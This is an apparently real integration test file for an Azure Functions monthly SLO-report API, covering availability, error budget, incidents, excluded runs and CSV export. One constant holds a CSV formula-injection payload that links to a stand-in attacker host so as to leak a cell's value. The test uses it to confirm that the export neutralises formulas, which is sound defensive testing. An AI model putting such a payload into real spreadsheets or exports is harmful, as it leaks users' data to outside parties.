import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalHost } from '../../../scripts/local-host/local-host';
import { probesSummarySchema } from '../../../shared/api/core/api-schemas';
import { Container, setContainer } from '../../../shared/composition-root';
import { CSV_COLUMNS, sloReportSchema } from '../../../shared/probe/core/slo-report';
import type { ProbeResult } from '../../../shared/probe/core/types';
import { recordResult } from '../../../shared/probe/storage/probe-store';
import { serveHttpFunctions } from '../../helpers/http-functions';
import { parseBody } from '../../helpers/parse-body';
import { principalHeader } from '../../helpers/principals';
import { probeResult, storeTarget } from '../../helpers/probe-results';
import { azuriteConnectionString, uniqueTablePrefix } from '../../helpers/storage';

/**
 * The monthly SLO report through the real HTTP handler, on Azurite holding results written by the
 * probe's own store (raw rows, rollups, state-change events), for November 2026 with the clock in
 * early December: 20 UP runs, 5 DOWN (an incident), 5 UP, 10 DOWN while the PLS connection was
 * Pending, 10 DOWN inside maintenance.
 */
const NOW = new Date('2026-12-01T00:30:00Z');
const START = Date.parse('2026-11-29T10:00:00Z');
const minute = (n: number) => new Date(START + n * 60_000);
const started = (n: number) => new Date(START + n * 60_000 + 150).toISOString();
const EVIL_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")';

const TARGETS = JSON.stringify([
  { id: 'shop', url: 'http://127.0.0.1/', displayName: EVIL_NAME, slo: { availability: 99, window: '30d' } },
  { id: 'plain', url: 'http://127.0.0.1/' },
]);

let host: LocalHost;

beforeAll(async () => {
  const env = {
    AzureWebJobsStorage: azuriteConnectionString(),
    TABLE_NAME_PREFIX: uniqueTablePrefix(),
    AUTH_MODE: 'easyauth',
    PROBE_TARGETS: TARGETS,
  };
  const container = new Container({ env, clock: { now: () => NOW } });
  const target = storeTarget('shop');
  const runs: ProbeResult[] = [];
  const add = (from: number, n: number, spec: Partial<Parameters<typeof probeResult>[0]>) => {
    for (let i = 0; i < n; i++)
      runs.push(probeResult({ targetId: 'shop', scheduledAt: minute(from + i), ...spec }));
  };
  add(0, 20, { status: 'UP' });
  add(20, 5, { status: 'DOWN' });
  add(25, 5, { status: 'UP' });
  add(120, 10, { status: 'DOWN', connectionState: 'Pending' });
  add(240, 10, { status: 'DOWN', inMaintenance: true });
  // In order, as the timer writes them: the state machine turns the DOWN streak into events.
  for (const run of runs) await recordResult(container, target, run);
  setContainer(container);
  host = await serveHttpFunctions();
}, 120_000);

afterAll(async () => {
  await host?.stop();
  setContainer(undefined);
});

function get(path: string, headers: Record<string, string> = {}): Promise<Response> {
  return fetch(`${host.url}/api/${path}`, {
    headers: { 'x-ms-client-principal': principalHeader('reader'), ...headers },
  });
}

describe('GET /api/probes/{target}/report', () => {
  it('reports availability and budget without the not-Approved and maintenance runs, with the incident and the excluded time', async () => {
    const response = await get('probes/shop/report?month=2026-11');
    expect(response.status).toBe(200);
    const report = await parseBody(sloReportSchema, response);
    expect(report).toMatchObject({
      month: '2026-11',
      from: '2026-11-01T00:00:00.000Z',
      to: '2026-12-01T00:00:00.000Z',
    });
    const [shop] = report.targets;
    expect(report.targets).toHaveLength(1);
    expect(shop?.runs).toEqual({
      total: 50,
      counted: 30,
      up: 25,
      degraded: 0,
      down: 5,
      maintenance: 10,
      notApproved: 10,
    });
    // 5 of 30 counted runs DOWN; 99 % allows 0.3 of them: the budget is spent 16.7 times over.
    expect(shop?.availabilityPercent).toBeCloseTo(83.333, 3);
    expect(shop?.budget).toEqual({
      allowedDownRuns: 0.3,
      downRuns: 5,
      usedPercent: 1666.667,
      remainingPercent: -1566.667,
      objectiveMet: false,
    });
    expect(shop?.excluded).toEqual([
      { reason: 'not-approved', from: '2026-11-29T12:00:00.000Z', to: '2026-11-29T13:00:00.000Z', runs: 10 },
      { reason: 'maintenance', from: '2026-11-29T14:00:00.000Z', to: '2026-11-29T15:00:00.000Z', runs: 10 },
    ]);
    // DOWN after the third failing run (failureThreshold 3), UP again after the second passing one
    // (events carry the run's start, 150 ms after its slot); the Pending streak is told with its state.
    expect(shop?.incidents[0]).toMatchObject({
      start: started(22),
      end: started(26),
      minutes: 4,
      connectionState: null,
    });
    expect(shop?.incidents[1]).toMatchObject({ start: started(122), end: null, connectionState: 'Pending' });
    expect(shop?.incidents).toHaveLength(2);
  });

  it('answers 404 for a target that is not configured and 400 for a month that is not one', async () => {
    expect((await get('probes/nope/report?month=2026-11')).status).toBe(404);
    expect((await get('probes/shop/report?month=2026-13')).status).toBe(400);
    expect((await get('probes/shop/report?month=2027-01')).status).toBe(400);
    expect((await fetch(`${host.url}/api/probes/shop/report?month=2026-11`)).status).toBe(401);
  });
});

describe('GET /api/probes/report (every target)', () => {
  it('lists every configured target; one without an objective has figures and no budget', async () => {
    const report = await parseBody(sloReportSchema, await get('probes/report?month=2026-11'));
    expect(report.targets.map((t) => t.targetId)).toEqual(['plain', 'shop']);
    expect(report.targets[0]).toMatchObject({ objective: null, budget: null, availabilityPercent: null });
  });

  it('answers CSV for Accept: text/csv and for format=csv, with formula-like text neutralised', async () => {
    const viaAccept = await get('probes/report?month=2026-11', { accept: 'text/csv' });
    const viaQuery = await get('probes/report?month=2026-11&format=csv');
    // The dashboard's link on a page opened with ?code=: the function key rides along in the query.
    const viaLink = await get('probes/report?month=2026-11&format=csv&code=a-function-key');
    expect(viaLink.status).toBe(200);
    expect(await viaLink.text()).toBe(await (await get('probes/report?month=2026-11&format=csv')).text());
    for (const response of [viaAccept, viaQuery]) {
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toBe(
        'attachment; filename="slo-report-all-2026-11.csv"',
      );
    }
    const csv = await viaAccept.text();
    expect(csv).toBe(await viaQuery.text());
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    const shopLines = lines.filter((l) => l.startsWith('2026-11,shop,'));
    expect(shopLines.map((l) => l.split(',')[3 + (EVIL_NAME.split(',').length - 1)])).toEqual([
      'summary',
      'incident',
      'incident',
      'excluded',
      'excluded',
    ]);
    // The name is quoted (it holds a comma and quotes) and starts with an apostrophe, not with "=".
    const nameCell = `"'${EVIL_NAME.replaceAll('"', '""')}"`;
    for (const line of shopLines) expect(line.startsWith(`2026-11,shop,${nameCell},`)).toBe(true);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(shopLines[0]).toContain(',-1566.667,false,');
  });
});

describe('GET /api/probes/summary with objectives', () => {
  it("shows a target's budget over its window, and none for a target without slo", async () => {
    const summary = await parseBody(probesSummarySchema, await get('probes/summary'));
    const shop = summary.targets.find((t) => t.id === 'shop');
    const rule = (name: string, severity: string, threshold: number, long: number, short: number) => ({
      rule: name,
      severity,
      threshold,
      longMinutes: long,
      shortMinutes: short,
      longBurn: 0,
      shortBurn: 0,
      firing: false,
      alertSince: null,
    });
    expect(shop?.budget).toEqual({
      windowDays: 30,
      usedPercent: 1666.667,
      remainingPercent: -1566.667,
      objective: { availabilityPercent: 99, latencyMs: null, latencyTargetPercent: 95 },
      availabilityPercent: 83.333,
      objectiveMet: false,
      // 20 of the 50 runs left out: 10 in maintenance, 10 DOWN while the connection was Pending.
      runs: { counted: 30, down: 5, allowedDown: 0.3, maintenance: 10, notApproved: 10, excludedPercent: 40 },
      latency: { withinObjectivePercent: null, objectiveMet: null },
      burn: [
        // Nothing ran in the last 6 hours: the page rules' windows are quiet.
        rule('page-fast', 'page', 14.4, 60, 5),
        rule('page-slow', 'page', 6, 360, 30),
        // The 3-day window holds every run: 5 of 30 DOWN against 1 % allowed burns 16.667 times.
        { ...rule('ticket', 'ticket', 1, 4320, 360), longBurn: 16.667 },
      ],
    });
  });
});
